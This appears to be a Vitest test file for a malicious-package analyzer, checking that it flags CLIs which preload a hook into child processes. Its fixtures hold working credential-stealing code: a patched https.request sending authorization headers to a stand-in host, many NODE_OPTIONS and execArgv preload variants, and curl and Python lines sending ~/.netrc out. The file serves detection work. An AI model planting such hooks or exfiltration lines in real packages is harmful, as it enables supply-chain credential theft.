import { describe, expect, it } from 'vitest';
import { analyzePackage } from '../../src/analyze/index.js';
import { ownRules, packageOf } from './in-memory.js';

const HOOK = `const { request } = require('https');
require('https').request = function (options, ...rest) {
  const key = options.headers.authorization;
  require('net').connect(4317, 'in.spanbox.invalid').end(key);
  return request.call(this, options, ...rest);
};`;
const START = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
const { pathToFileURL } = require('url');
const hook = path.join(__dirname, 'lib', 'hook.js');
const [cmd, ...rest] = process.argv.slice(2);\n`;
const found = (cli: string, files: Record<string, string> = { 'lib/hook.js': HOOK }): string[] =>
  analyzePackage(
    packageOf({ 'cli.js': START + cli, ...files }, { bin: { sample: 'cli.js' } }),
    ownRules(),
  ).findings.map(({ rule }) => rule);

describe('what a child loads before its own program', () => {
  it.each([
    'cp.spawn(cmd, rest, { env: { ...process.env, NODE_OPTIONS: `${process.env.NODE_OPTIONS} --require ${hook}` } })',
    "const flags = ['--trace-warnings', `--require=${JSON.stringify(hook)}`]; cp.spawn(cmd, rest, { env: { NODE_OPTIONS: [process.env.NODE_OPTIONS, ...flags].join(' ') } })",
    "process.env.NODE_OPTIONS += ' --import ' + pathToFileURL(hook).href; cp.spawn(cmd, rest)",
    "cp.spawn('npm', ['test'], { env: { npm_config_node_options: '-r ' + hook } })",
    "cp.fork(cmd, rest, { execArgv: [...process.execArgv, '-r', hook] })",
    "cp.spawn(cmd, ['--require', hook, ...rest])",
    "const { Worker } = require('worker_threads'); new Worker(cmd, { execArgv: ['-r', hook] })",
    "require('cluster').setupPrimary({ exec: hook })",
    'cp.execSync(`NODE_OPTIONS="$NODE_OPTIONS --require ${hook}" ${cmd}`)',
    "cp.spawn(cmd, rest, { env: { NODE_OPTIONS: '--import data:text/javascript,' + encodeURIComponent('import ' + JSON.stringify(pathToFileURL(hook).href)) } })",
    "const to = path.join(os.homedir(), '.cache', 'hook.cjs'); fs.copyFileSync(hook, to); process.env.NODE_OPTIONS = '-r ' + to; cp.spawn(cmd, rest)",
    `const to = path.join(os.tmpdir(), 'hook.cjs'); fs.writeFileSync(to, ${JSON.stringify(HOOK)}); cp.spawn(cmd, rest, { env: { NODE_OPTIONS: '-r ' + to } })`,
  ])('%s', (cli) => {
    expect(found(cli)).toContain('intercepted-credentials');
  });

  it.each([
    [
      "cp.spawn(cmd, rest, { env: { BASH_ENV: __dirname + '/lib/env' } })",
      'lib/env',
      'curl -d @~/.netrc in.spanbox.invalid',
    ],
    [
      "cp.spawn('git', ['fetch'], { env: { GIT_ASKPASS: __dirname + '/ask.sh' } })",
      'ask.sh',
      'curl -d @~/.netrc in.spanbox.invalid',
    ],
    [
      "cp.spawn(cmd, rest, { env: { PYTHONPATH: path.join(__dirname, 'py') } })",
      'py/sitecustomize.py',
      "import requests, os\nrequests.post('https://in.spanbox.invalid', data=open(os.path.expanduser('~/.netrc')).read())",
    ],
  ])('%s', (cli, file, text) => {
    expect(found(cli, { [file]: text })).toContain('secret-file-exfiltration');
  });

  it('is nothing where the file is not of the package, or only data for it', () => {
    expect(found("cp.spawn(cmd, rest, { env: { NODE_OPTIONS: '--require ./lib/hook.js' } })")).toEqual([]);
    expect(found('cp.spawn(cmd, rest, { env: { LOG_FILE: hook } })')).toEqual([]);
  });
});
